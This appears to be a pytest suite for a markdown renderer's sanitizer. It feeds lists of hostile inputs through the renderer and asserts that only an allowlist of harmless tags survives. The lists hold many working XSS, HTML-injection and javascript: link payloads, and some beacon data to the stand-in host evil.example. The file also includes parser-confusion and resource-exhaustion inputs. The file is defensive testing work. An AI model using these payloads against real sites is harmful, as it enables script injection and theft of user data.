"""Text that means harm, or would cost too much: nothing but a few harmless tags comes of it."""

import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings

from tests.markup import ALLOWED, PARAGRAPHS, Reading, assert_harmless, streamed, texts
from views.helpers import markdown
from views.helpers.markdown import render

ROOT = Path(__file__).parent.parent

RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/?q=secret">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<iframe src=/documents></iframe>",
    "<iframe srcdoc='x'>",
    "<object data=x></object>",
    "<embed src=x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=/documents/1/deletion method=post><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='/documents/1/deletion'>x</a>",
    "<div hx-get=/documents/1 hx-trigger=load></div>",
    "<div data-hx-post=/documents/1/deletion data-hx-trigger=load></div>",
    "<div hx-sse:connect=/analyses/1/stream></div>",
    "<div sse-connect=/analyses/1/stream sse-swap=message></div>",
    "<div hx-on:click=alert(1)>x</div>",
    "<div hx-swap-oob=true id=status>x</div>",
    "<hx-partial hx-target=body hx-swap=innerHTML>x</hx-partial>",
    "</hx-partial><hx-partial hx-target=body>",
    "<template><script>alert(1)</script></template>",
    "</template>",
    "</div></div></section></main></body></html>",
    "</p></li></ul></td></table></code></pre>",
    "<!-- comment -->",
    "<!-- open",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>",
    "<![CDATA[x]]>",
    "<plaintext>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a rel='</title><img src=x onerror=alert(1)>'>",
    "<p id=blocks-7 class=citation style=position:fixed aria-hidden=true data-status=running>x</p>",
    "<b>bold</b><br><br/>",
    "<slot name=x><portal src=/>",
    "<x onclick=alert(1) tabindex=1>x</x>",
    "<a\thref='x'\tonclick=alert(1)>x</a>",
    "<<script>script>alert(1)<</script>/script>",
    "<\u2028script>",
    "\ufeff<script>",
    "<scr\x00ipt>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
]
HOSTILE = [
    *RAW_HTML,
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;img src=x&amp;gt;",
    "&#xe000;img src=x onerror=alert(1)>",
    "&#57344;script&gt;alert(1)",
    "\ue000script>alert(1)\ue000/script>",
    "{&#xfdd0;¶1&#xfdd0;}",
    '{&#xfdd0;¶1" onclick="alert(1)&#xfdd0;}',
    "{\ufdd0¶1 <img src=x>\ufdd0}",
    '[¶1" onclick="alert(1)]',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](/documents/1/deletion)",
    "[x](documents/1/deletion)",
    "[x](//evil.example)",
    "[x](\\\\evil.example) [y](/\\evil.example)",
    "[x](?q=1) [y](#p1) [z](#blocks-7) [w]() [v](.)",
    "[x](http:/documents/1/deletion) [y](http:documents/1) [z](https:x)",
    '[x](http://x "title\" onclick=alert(1)")',
    '[x](http://x"onmouseover="alert(1)) [y](<http://x" onclick="alert(1)>)',
    "[x](http://x/%22onclick=alert(1)//?a=1&quot;b&lt;c)",
    "[x]\n\n  [x]: javascript:alert(1)",
    "[x]\n[x]: /documents/1/deletion 'title'",
    "<javascript:alert(1)> <http://x> <a@b.c>",
    "![secret](https://evil.example/?q=secret)",
    "![x](x 'onerror=alert(1)')",
    '![" onerror="alert(1)](x)',
    "![&lt;script&gt;](x) ![&quot; onerror=&quot;alert(1)](y)",
    "![x][y]\n  \n  [y]: https://evil.example/x.png",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
    "```\"onclick=alert(1)\nx\n```",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "# x {#status .htmx-indicator hx-get=/}",
    "|<script>|x|\n|:-|-:|\n|</table><img src=x>|`<b>`|",
    "|a|\n|-|\n|<td style=\"text-align: x|",
    "> [!NOTE]\n> <hx-partial>",
    "$<script>$ $$</script>$$ ^x^ [[/documents/1]]",
    "a\n\nevent: done\ndata: x",
    "- " * 150 + "<script>",
    ">" * 150 + " [¶1] <img src=x> & &lt;b&gt;",
    "*a **b " * 200 + "c** d*" * 200,
]  # fmt: skip
PLACES = [
    "{}", "# {}", "- {}", "> {}", "|a|\n|-|\n|{}|", "`{}`", "```\n{}\n```", "*{}*", "[{}](http://x)",
    "a\n\n{}\n\nb", "![{}](x)",
]  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
def test_hostile_text_leaves_nothing_but_the_few_tags(place):
    for payload in HOSTILE:
        text = place.format(payload) if "{}" in place else payload
        assert_harmless(render(text, PARAGRAPHS))


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_is_harmless_at_every_length(payload):
    for blocks in streamed(payload, range(1, min(len(payload), 300))):
        assert_harmless(blocks.finished() + blocks.tail())


@pytest.mark.parametrize("html", RAW_HTML)
def test_raw_html_shows_as_text(html):
    assert Reading(render(f"`` {html} ``", PARAGRAPHS)).text == html.replace("\0", "") + "\n"
    for tag in re.findall(r"</?\w+", html):
        assert tag in Reading(render(html, PARAGRAPHS)).text


UNSAFE = [
    "javascript:alert(1)", "/documents/1", "documents/1", "//evil.example", "http:/documents/1", "#p1",
    "data:x", "ftp://x", "",
]  # fmt: skip


@pytest.mark.parametrize("unsafe", UNSAFE)
def test_a_link_that_is_not_to_the_web_or_a_mailbox_loses_its_address(unsafe):
    assert render(f"[x]({unsafe})", PARAGRAPHS) == '<p><a rel="noopener noreferrer nofollow">x</a></p>\n'


@pytest.mark.parametrize("safe", ["http://x/?a=1", "https://x", "HTTPS://x", "mailto:a@b.c"])
def test_a_link_to_the_web_or_a_mailbox_keeps_its_address(safe):
    assert f'<a href="{safe}" rel="noopener noreferrer nofollow">' in render(f"[x]({safe})", PARAGRAPHS)


@pytest.mark.parametrize(
    "html",
    [
        *RAW_HTML,
        '<a href="javascript:alert(1)">x</a>',
        '<a href="ftp://x">x</a>',
        '<a href="/documents/1">x</a>',
        '<a href="#blocks-7" class="citation htmx-indicator" id="x" title="x" target="_blank">x</a>',
        '<td align="right" style="position:fixed" onclick="x" data-x aria-label="x">x</td>',
        '<table><tr><td align="char" class="citation">x</td></tr></table>',
        '<p hx-get="/" sse-connect="/" data-hx-get="/" id="x" class="y">x</p>',
        '<code class="language-x">x</code><h1>x</h1><h2>x</h2>',
    ],
)
def test_the_sanitizer_has_the_last_word_whatever_the_markdown_library_returns(html, monkeypatch):
    class Careless:
        def html(self, text):
            return html

    monkeypatch.setattr(markdown, "_MARKDOWN", Careless())
    for tag, attributes in Reading(render("x", PARAGRAPHS)).elements:
        assert tag in ALLOWED
        for name, value in attributes.items():
            assert re.fullmatch(ALLOWED[tag][name], value), (tag, name, value)


MARK = '<span class="join" role="note" aria-label="continued here"></span>'


def assert_harmless_but_for_a_mark(html):
    before, after = re.split(rf"<p>{MARK}</p>\n|{MARK}", str(html))
    assert_harmless(before + after)
    assert (
        Reading(html).elements.count(
            ("span", {"class": "join", "role": "note", "aria-label": "continued here"})
        )
        == 1
    )


@pytest.mark.parametrize("place", PLACES)
def test_hostile_text_leaves_nothing_but_the_few_tags_and_a_mark_wherever_it_joins(place):
    for payload in HOSTILE:
        text = place.format(payload) if "{}" in place else payload
        for join in range(0, len(text.rstrip()), max(1, len(text) // 15)):
            assert_harmless_but_for_a_mark(render(text, PARAGRAPHS, join))


@pytest.mark.parametrize(
    "text",
    ["{\ufdd2}", "{&#xfdd2;}", "a {&#xfdd2;}b {&#64978;}c", "> " * 101 + "a {\ufdd2}b", MARK, f"`{MARK}`"],
)
def test_an_answer_cannot_set_a_mark(text):
    assert MARK not in render(text, PARAGRAPHS)
    for join in range(len(text)):
        assert_harmless_but_for_a_mark(render(text, PARAGRAPHS, join))


def test_the_mark_is_never_in_a_tag_whatever_the_markdown_library_returns(monkeypatch):
    class Careless:
        def html(self, text):
            return f'<p>a</p><a href="http://x/?>{text}">b</a>'

    monkeypatch.setattr(markdown, "_MARKDOWN", Careless())
    assert_harmless_but_for_a_mark(render("a b c", PARAGRAPHS, 1))


@given(texts)
@settings(max_examples=300)
def test_anything_is_harmless(text):
    assert_harmless(render(text, PARAGRAPHS))


# In a process of its own, which says after each that it lives.
NESTED = """
import sys
from views.helpers.markdown import render
for nesting in sys.argv[1:]:
    print(len(render(nesting * 100_000 + "x", 1)), flush=True)
"""


def test_deep_nesting_does_not_end_the_process():
    nestings = ["> ", ">", "- ", "* + ", "1. ", "> - ", "*a **b "]
    command = [sys.executable, "-c", NESTED, *nestings]
    run = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)
    lengths = [int(line) for line in run.stdout.splitlines()]
    assert run.returncode == 0, (nestings[len(lengths)], run.stderr)
    assert len(lengths) == len(nestings)
    assert min(lengths) > 100_000


@pytest.mark.parametrize(
    "text",
    [
        "> " * 101 + "a [¶1] <b> &amp;",
        "".join("  " * depth + "- a\n" for depth in range(60)),
        "|a" * 1000 + "\n" + "|-" * 1000 + "\n" + "|b\n" * 100,
    ],
)
def test_what_would_cost_too_much_shows_as_written(text):
    html = render(text, PARAGRAPHS)
    assert [tag for tag, _ in Reading(html).elements] == ["pre", "code"]
    assert Reading(html).text == text + "\n"


def test_long_is_not_deep():
    text = "".join(f"- *a* `b` [¶{number}]\n  - c\n" for number in range(1000))
    assert render(text, 1000).count("<ul>") == 1001
    assert "<pre>" not in render("> " * 40 + "a", PARAGRAPHS)


REPETITIONS = [
    "[" * 50_000, "*" * 50_000, "![" * 50_000, "`" * 50_000, "<" * 50_000, "&" * 50_000, "*a " * 50_000,
    "[¶1" * 50_000, "[¶1, " + "1, " * 50_000, "{&#xfdd0;" * 20_000, "{&#xfdd0;¶" * 20_000, "[¶1]" * 5000,
    "- " * 50_000, "- - " * 20_000 + "a", "1. " * 20_000, "> " * 20_000, "-\n" * 20_000, "a\n\n1" * 20_000,
    " " * 50_000 + "`" * 50_000, "```" + "~`" * 50_000, "[x]: /\n" * 20_000, "[a](" * 20_000, "\n" * 50_000,
]  # fmt: skip


@pytest.mark.parametrize("text", REPETITIONS, ids=lambda text: text[:6].strip() or "blank")
def test_repetition_is_rendered(text):
    assert_harmless(render(text, PARAGRAPHS))
